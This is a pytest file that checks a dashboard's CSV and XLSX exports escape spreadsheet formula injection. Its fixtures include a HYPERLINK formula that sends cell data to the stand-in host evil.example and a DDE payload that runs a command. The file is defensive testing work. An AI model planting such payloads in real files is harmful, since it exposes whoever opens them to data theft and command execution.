"""The dashboard's CSV and XLSX exports show desk-typed text and never run it (issue 15, item 5):
real HQ over HTTP, a desk pushing a hostile participant, the files read back as a spreadsheet
program would."""

from __future__ import annotations

import csv
import io

import pytest
import requests
from openpyxl import load_workbook

from sync.clock import utcnow
from sync.hq import admin
from sync.hq.db import write_session
from sync.spreadsheet_safe import csv_cell, is_formula_like
from tests.hq.helpers import (
    Hq,
    checkin_record,
    dashboard_login,
    envelope,
    event_record,
    participant_record,
    registration_record,
    statuses,
)

PASSWORD = "kata-sandi-yang-panjang-sekali"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
PHONE_LIKE = "+6281234567890"
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
NIP = "198609262015051001"
# As the desk's sheet prints it: a spreadsheet keeps it as text (bare digits become 1.98609E+17).
PRINTED_NIP = "19860926 201505 1 001"


@pytest.mark.parametrize(
    ("text", "dangerous"),
    [
        ("=1+1", True),
        ("+62812", True),
        ("-2+3", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("-", False),  # the clerks' "none"
        ("198609262015051001", False),
        ("Ahmad = Yani", False),
        ("", False),
    ],
)
def test_the_rule(text: str, dangerous: bool) -> None:
    assert is_formula_like(text) is dangerous
    assert csv_cell(text) == ("'" + text if dangerous else text)
    assert csv_cell(3) == 3


def _logged_in(hq: Hq) -> requests.Session:
    with write_session(hq.engine) as session:
        admin.create_admin(session=session, username="pusat", password=PASSWORD, now=utcnow())
    return dashboard_login(hq, username="pusat", password=PASSWORD)


def _hostile_event(hq: Hq) -> str:
    desk = hq.desk(name=DDE)
    event = event_record(title=LINK)
    person = participant_record(name=LINK, nip=NIP).model_copy(update={"instansi": PHONE_LIKE})
    placeholder = participant_record(name="Siti", nip=None, email=None).model_copy(
        update={"instansi": "-"}
    )
    items = [envelope(event), envelope(person), envelope(placeholder)]
    for someone in (person, placeholder):
        items.append(envelope(registration_record(event.id, someone.id)))
        items.append(envelope(checkin_record(event.id, someone.id, desk_name=DDE)))
    assert set(statuses(desk.push(items))) == {"stored"}
    return event.id


def test_dashboard_xlsx_keeps_hostile_text_as_text(hq: Hq) -> None:
    event_id = _hostile_event(hq)
    browser = _logged_in(hq)
    for path in ("events.xlsx", f"events/{event_id}/attendance.xlsx"):
        answer = browser.get(f"{hq.url}/dashboard/export/{path}", timeout=10)
        assert answer.status_code == 200, answer.text
        sheet = load_workbook(io.BytesIO(answer.content)).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path  # no live formula
        hostile = [c for c in cells if c.value in (LINK, PHONE_LIKE, DDE)]
        assert hostile, path
        assert all(c.data_type == "s" and c.quotePrefix for c in hostile), path
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert {LINK, PHONE_LIKE, DDE, PRINTED_NIP, "-"} <= set(values)  # shown as typed
    assert 1 in values  # the day stays a number


def test_dashboard_csv_prefixes_hostile_cells_with_an_apostrophe(hq: Hq) -> None:
    event_id = _hostile_event(hq)
    browser = _logged_in(hq)
    answer = browser.get(f"{hq.url}/dashboard/export/events/{event_id}/attendance.csv", timeout=10)
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + LINK in cells and "'" + PHONE_LIKE in cells and "'" + DDE in cells
    assert PRINTED_NIP in cells and NIP not in cells and "-" in cells and "1" in cells
    assert not [c for c in cells if is_formula_like(c)]
    events = browser.get(f"{hq.url}/dashboard/export/events.csv", timeout=10)
    titles = [
        row[1] for row in csv.reader(io.StringIO(events.content.decode("utf-8-sig")), delimiter=";")
    ]
    assert "'" + LINK in titles
